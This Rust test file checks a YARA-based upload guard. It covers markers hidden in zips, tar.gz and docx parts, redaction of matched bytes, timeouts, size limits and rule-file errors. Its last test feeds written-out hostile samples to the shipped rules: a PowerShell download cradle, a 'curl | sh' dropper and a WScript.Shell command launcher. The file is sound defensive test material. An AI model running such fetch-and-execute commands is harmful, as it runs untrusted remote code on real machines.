//! YARA rules per profile: a rule matching a marker refuses the package
//! wherever the marker is (the file itself, a zip, a zip in a zip, a
//! tar.gz, a part of a docx), naming the rule and the member and never the
//! matched bytes; clean data passes with every stream scanned; a scan that
//! runs too long, or a member longer than `max_scan_bytes`, is refused,
//! never passed; `review` holds instead of refusing; and a rules file that
//! does not compile is reported at its line and column.

mod common;

use common::{entry, gzip, tar, zip};
use ferry_guard::{FindingKind, Guard, GuardError, Profile, Report, Verdict, YaraStatus};
use std::path::Path;

/// What the test rule looks for. The rule's name does not contain it, so
/// a report holding it would hold package content.
const MARKER: &str = "FERRY-TEST-DROPPER-7f3a9c";
const RULES_PATH: &str = "/rules/import.yar";
const RULES: &str = r#"
rule Dropper_Marker : dropper test {
  meta:
    description = "the test marker"
  strings:
    $m = "FERRY-TEST-DROPPER-7f3a9c"
  condition:
    $m
}

rule Never_Matches {
  strings:
    $a = { 00 01 02 03 04 05 06 07 08 09 }
  condition:
    $a and filesize < 10
}
"#;
/// A condition that looks at every byte pair: quadratic in the file's
/// length, so a quarter of a MiB runs for minutes, far past any timeout.
const SLOW_PATH: &str = "/rules/slow.yar";
const SLOW: &str = r#"
rule Quadratic {
  condition:
    for all i in (0..filesize) : (
      for all j in (0..filesize) : ( uint8(j) != uint8(i) + 1 or uint8(i) == 0x61 )
    )
}
"#;
const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

fn files(path: &Path) -> std::io::Result<Vec<u8>> {
    match path.to_str() {
        Some(RULES_PATH) => Ok(RULES.as_bytes().to_vec()),
        Some(SLOW_PATH) => Ok(SLOW.as_bytes().to_vec()),
        Some("/rules/broken.yar") => Ok(b"rule Fine { condition: true }\n\nrule Broken {\n  condition:\n    $missing and true\n}\n".to_vec()),
        Some("/rules/include.yar") => Ok(b"include \"other.yar\"\nrule X { condition: true }\n".to_vec()),
        Some("/rules/latin1.yar") => Ok(b"rule A { condition: true }\n// caf\xE9\n".to_vec()),
        _ => Err(std::io::Error::new(
            std::io::ErrorKind::NotFound,
            "no such file",
        )),
    }
}

fn settings(yara: serde_json::Value) -> serde_json::Value {
    serde_json::json!({
        "allowed_types": ["text/*", "application/json", "application/xml"],
        "archives": { "allowed": true, "formats": ["zip", "tar", "gzip"], "max_depth": 3 },
        "yara": yara,
    })
}

fn profile(yara: serde_json::Value) -> Result<Profile, GuardError> {
    Profile::from_settings("import", &settings(yara), &files)
}

fn guard(yara: serde_json::Value) -> Guard {
    Guard::with_finding_key(profile(yara).expect("profile compiles"), b"test key")
}

fn import_guard() -> Guard {
    guard(serde_json::json!({ "rules": [RULES_PATH] }))
}

fn inspect(g: &Guard, data: &[u8], name: &str, ty: &str) -> Report {
    g.inspect_bytes(data, name, ty).expect("no machine error").0
}

/// Long and repetitive enough that deflate codes it (a tiny member may be
/// stored as it is, and the marker then shows in the archive's own bytes).
fn sha256(data: &[u8]) -> String {
    hex::encode(ring::digest::digest(&ring::digest::SHA256, data))
}

fn text_with_marker() -> Vec<u8> {
    let filler = "the household counts of the district, as surveyed\n".repeat(40);
    format!("{filler}something {MARKER} in the middle\n{filler}").into_bytes()
}

/// The marker is not in the package's own bytes: only the member scan
/// can find it.
fn assert_hidden(package: &[u8]) {
    assert!(
        !package
            .windows(MARKER.len())
            .any(|w| w == MARKER.as_bytes()),
        "the marker shows in the compressed package"
    );
}

/// The package is refused by rule `import:Dropper_Marker` found in
/// `member`, and nothing of what the rule matched is in the report.
fn assert_matched(r: &Report, member: Option<&str>) {
    assert_eq!(r.verdict, Verdict::Reject, "{:#?}", r.reasons);
    let y = r.yara.as_ref().expect("a yara section");
    assert_eq!(y.status, YaraStatus::Matched, "{y:#?}");
    assert_eq!(y.matches.len(), 1, "{y:#?}");
    assert_eq!(y.matches[0].rule, "import:Dropper_Marker");
    assert_eq!(y.matches[0].tags, ["dropper", "test"]);
    assert_eq!(y.matches[0].member.as_deref(), member);
    let f = r
        .findings
        .iter()
        .find(|f| f.kind == FindingKind::Yara)
        .expect("a yara finding");
    assert_eq!(f.detector, "yara_rule");
    assert_eq!(f.pattern.as_deref(), Some("import:Dropper_Marker"));
    assert_eq!(f.location.member.as_deref(), member);
    assert!(
        r.reasons
            .iter()
            .any(|x| x.contains("YARA rule matched: import:Dropper_Marker")),
        "{:#?}",
        r.reasons
    );
    assert_no_marker(r);
}

fn assert_no_marker(r: &Report) {
    let json = serde_json::to_string(r).expect("json");
    assert!(
        !json.contains(MARKER),
        "matched bytes in the report: {json}"
    );
    assert!(
        !json.contains("7f3a9c"),
        "part of the match in the report: {json}"
    );
}

#[test]
fn a_plain_file_with_the_marker_is_refused_naming_the_rule() {
    let data = text_with_marker();
    let r = inspect(&import_guard(), &data, "notes.txt", "text/plain");
    assert_matched(&r, None);
    // Refused, yet still named by its digest.
    assert_eq!(r.digest_before, Some(sha256(&data)));
    let y = r.yara.as_ref().expect("yara");
    assert_eq!(y.rules, 2);
    assert_eq!(y.files.len(), 1);
    assert_eq!(y.files[0].path, RULES_PATH);
    assert_eq!(y.files[0].rules, 2);
    assert_eq!(y.files[0].sha256, sha256(RULES.as_bytes()));
}

#[test]
fn the_marker_in_a_zip_is_refused_naming_the_member() {
    let marked = text_with_marker();
    let z = zip(&[
        entry("counts.csv", b"a,b\n1,2\n"),
        entry("docs/notes.txt", &marked),
    ]);
    assert_hidden(&z);
    let r = inspect(&import_guard(), &z, "data.zip", "application/zip");
    assert_matched(&r, Some("docs/notes.txt"));
}

#[test]
fn the_marker_in_a_zip_in_a_zip_is_refused_naming_the_nested_member() {
    let marked = text_with_marker();
    let inner = zip(&[entry("deep/notes.txt", &marked)]);
    let outer = zip(&[entry("readme.txt", b"hello\n"), entry("inner.zip", &inner)]);
    assert_hidden(&outer);
    let r = inspect(&import_guard(), &outer, "outer.zip", "application/zip");
    assert_matched(&r, Some("inner.zip!deep/notes.txt"));
}

#[test]
fn the_marker_in_a_tar_gz_is_refused_naming_the_member() {
    let marked = text_with_marker();
    let t = tar(&[("a.txt", b'0', b"first\n"), ("b/notes.txt", b'0', &marked)]);
    let tgz = gzip(&t);
    assert_hidden(&tgz);
    let r = inspect(&import_guard(), &tgz, "bundle.tar.gz", "application/gzip");
    assert_matched(&r, Some("bundle.tar!b/notes.txt"));
}

#[test]
fn the_marker_in_a_docx_part_is_refused_naming_the_part() {
    let ct = br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    let rels = br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
    let doc = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{MARKER}</w:t></w:r></w:p></w:body></w:document>"#
    );
    let d = zip(&[
        entry("[Content_Types].xml", ct),
        entry("_rels/.rels", rels),
        entry("word/document.xml", doc.as_bytes()),
    ]);
    let mut s = settings(serde_json::json!({ "rules": [RULES_PATH] }));
    s["allowed_types"] = serde_json::json!(["text/*", "application/xml", DOCX]);
    let g = Guard::new(Profile::from_settings("import", &s, &files).expect("profile"));
    assert_hidden(&d);
    let r = inspect(&g, &d, "memo.docx", DOCX);
    assert_matched(&r, Some("word/document.xml"));
}

#[test]
fn a_clean_corpus_passes_with_every_stream_scanned() {
    let g = import_guard();
    let csv = b"district,households\nA,10\nB,12\n".to_vec();
    let json = br#"{"district": "A", "households": 10}"#.to_vec();
    let t = tar(&[("a.csv", b'0', &csv), ("b.json", b'0', &json)]);
    let z = zip(&[entry("a.csv", &csv), entry("b.txt", b"plain words\n")]);
    let outer = zip(&[entry("inner.zip", &z), entry("c.csv", &csv)]);
    let cases: [(&[u8], &str, &str, u64); 5] = [
        (&csv, "counts.csv", "text/csv", 1),
        (&json, "counts.json", "application/json", 1),
        (&z, "data.zip", "application/zip", 3),
        (&gzip(&t), "data.tar.gz", "application/gzip", 4),
        (&outer, "outer.zip", "application/zip", 5),
    ];
    for (data, name, ty, streams) in cases {
        let r = inspect(&g, data, name, ty);
        assert_eq!(r.verdict, Verdict::Pass, "{name}: {:#?}", r.reasons);
        let y = r.yara.as_ref().expect("yara");
        assert_eq!(y.status, YaraStatus::Clean, "{name}");
        assert!(y.matches.is_empty(), "{name}");
        assert_eq!(y.streams, streams, "{name}: the package and every member");
    }
}

#[test]
fn action_review_holds_the_package_instead() {
    let g = guard(serde_json::json!({ "rules": [RULES_PATH], "action": "review" }));
    let r = inspect(&g, &text_with_marker(), "notes.txt", "text/plain");
    assert_eq!(r.verdict, Verdict::Review, "{:#?}", r.reasons);
    let f = r
        .findings
        .iter()
        .find(|f| f.kind == FindingKind::Yara)
        .expect("finding");
    assert_eq!(f.action, ferry_guard::Action::Review);
    assert_no_marker(&r);
}

#[test]
fn a_scan_past_the_timeout_is_refused_not_passed() {
    let g = guard(serde_json::json!({ "rules": [SLOW_PATH], "timeout_s": 2 }));
    let data = vec![b'a'; 256 * 1024];
    let r = inspect(&g, &data, "big.txt", "text/plain");
    assert_eq!(r.verdict, Verdict::Reject, "{:#?}", r.reasons);
    let y = r.yara.as_ref().expect("yara");
    assert_eq!(y.status, YaraStatus::Timeout, "{y:#?}");
    assert!(y.matches.is_empty());
    assert!(
        r.findings
            .iter()
            .any(|f| f.kind == FindingKind::Yara && f.detector == "yara_timeout"),
        "{:#?}",
        r.findings
    );
    assert!(
        r.reasons.iter().any(|x| x.contains("yara.timeout_s")
            && x.contains(SLOW_PATH)
            && x.contains("not passed")),
        "{:#?}",
        r.reasons
    );
}

#[test]
fn a_member_over_max_scan_bytes_is_refused_not_passed_unscanned() {
    let g = guard(serde_json::json!({ "rules": [RULES_PATH], "max_scan_bytes": 4096 }));
    let big = vec![b'x'; 10_000];
    let gz = gzip(&big);
    assert!(gz.len() < 4096, "the package itself fits");
    let r = inspect(&g, &gz, "big.txt.gz", "application/gzip");
    assert_eq!(r.verdict, Verdict::Reject, "{:#?}", r.reasons);
    let y = r.yara.as_ref().expect("yara");
    assert_eq!(y.status, YaraStatus::Unscannable);
    assert!(
        r.reasons.iter().any(|x| x.contains("big.txt")
            && x.contains("10000 bytes, more than yara.max_scan_bytes (4096)")),
        "{:#?}",
        r.reasons
    );
    assert!(r.findings.iter().any(
        |f| f.detector == "yara_unscannable" && f.location.member.as_deref() == Some("big.txt")
    ));
    // The package itself over the limit: refused before anything else.
    let r = inspect(&g, &big, "big.txt", "text/plain");
    assert_eq!(r.verdict, Verdict::Reject);
    assert_eq!(
        r.yara.as_ref().map(|y| y.status),
        Some(YaraStatus::Unscannable)
    );
}

#[test]
fn a_rules_file_that_does_not_compile_is_located_at_its_line_and_column() {
    let e = profile(serde_json::json!({ "rules": ["/rules/broken.yar"] })).unwrap_err();
    match &e {
        GuardError::RulesInvalid {
            path,
            line,
            column,
            excerpt,
            message,
        } => {
            assert_eq!(path, Path::new("/rules/broken.yar"));
            assert_eq!((*line, *column), (5, 5), "{e}");
            assert!(message.contains("unknown pattern"), "{message}");
            assert!(excerpt.contains("5 |     $missing and true"), "{excerpt}");
            assert!(excerpt.contains("^^^^^^^^"), "{excerpt}");
        }
        other => panic!("not located: {other}"),
    }
    assert!(
        e.to_string().starts_with("/rules/broken.yar:5:5: YARA E"),
        "{e}"
    );
    // `include` would read files the policy does not name.
    let e = profile(serde_json::json!({ "rules": ["/rules/include.yar"] })).unwrap_err();
    assert!(
        matches!(
            e,
            GuardError::RulesInvalid {
                line: 1,
                column: 1,
                ..
            }
        ),
        "{e}"
    );
    // Not UTF-8: at the first bad byte.
    let e = profile(serde_json::json!({ "rules": ["/rules/latin1.yar"] })).unwrap_err();
    assert!(
        matches!(
            e,
            GuardError::RulesInvalid {
                line: 2,
                column: 7,
                ..
            }
        ),
        "{e}"
    );
}

#[test]
fn unreadable_files_and_bad_settings_are_refused_at_load() {
    let e = profile(serde_json::json!({ "rules": ["/rules/none.yar"] })).unwrap_err();
    assert!(
        matches!(&e, GuardError::RulesUnreadable { path, .. } if path == Path::new("/rules/none.yar")),
        "{e}"
    );
    for bad in [
        serde_json::json!({}),
        serde_json::json!({ "rules": [] }),
        serde_json::json!({ "rules": ["rules/import.yar"] }),
        serde_json::json!({ "rules": [RULES_PATH], "action": "mask" }),
        serde_json::json!({ "rules": [RULES_PATH], "timeout_s": 1 }),
        serde_json::json!({ "rules": [RULES_PATH], "timeout_s": 61 }),
        serde_json::json!({ "rules": [RULES_PATH], "max_scan_bytes": 0 }),
        serde_json::json!({ "rules": [RULES_PATH], "max_scan_bytes": 2_000_000_000u64 }),
        serde_json::json!({ "rules": [RULES_PATH], "timeout_ms": 5000 }),
        serde_json::json!({ "rules": [RULES_PATH, "/other/import.yar"] }),
    ] {
        let e = profile(bad.clone()).unwrap_err();
        assert!(matches!(e, GuardError::Settings { .. }), "{bad}: {e}");
    }
}

/// The shipped example rules (examples/yara/import.yar, named by the
/// example policy's import profile) and the bench's rule set compile, and
/// catch what their names say, not clean data.
#[test]
fn the_shipped_rules_compile_and_catch_what_they_name() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/..");
    let example = format!("{dir}/examples/yara/import.yar");
    let bench = format!("{dir}/guard/benches/yara-bench.yar");
    let settings = serde_json::json!({
        "allowed_types": ["text/*"],
        "yara": { "rules": [example, bench] },
    });
    let g = Guard::new(
        Profile::from_settings("import", &settings, &ferry_guard::FsLists).expect("compiles"),
    );
    let files = g.profile().yara().expect("yara").files().to_vec();
    assert_eq!((files[0].rules, files[1].rules), (5, 15));
    let cases = [
        (
            "setup.txt",
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\n",
            "PowerShell_Download_Cradle",
        ),
        (
            "install.txt",
            "curl -fsSL http://203.0.113.9/i.sh | sh\n",
            "Script_Dropper_Shell",
        ),
        (
            "run.txt",
            "Set o = CreateObject(\"WScript.Shell\")\no.Run \"cmd /c calc\"\n",
            "Windows_Script_Host",
        ),
    ];
    for (name, text, rule) in cases {
        let r = inspect(&g, text.as_bytes(), name, "text/plain");
        assert_eq!(r.verdict, Verdict::Reject, "{name}: {:#?}", r.reasons);
        let rules: Vec<&str> = r
            .yara
            .as_ref()
            .expect("yara")
            .matches
            .iter()
            .map(|m| m.rule.as_str())
            .collect();
        assert!(
            rules.contains(&format!("import:{rule}").as_str()),
            "{name}: {rules:?}"
        );
        assert!(
            rules.contains(&format!("yara-bench:{rule}").as_str()),
            "{name}: {rules:?}"
        );
    }
    let clean = "district,households,note\nA,10,the survey of the district\nB,12,downloaded from the portal\n";
    let r = inspect(&g, clean.as_bytes(), "counts.csv", "text/csv");
    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
}
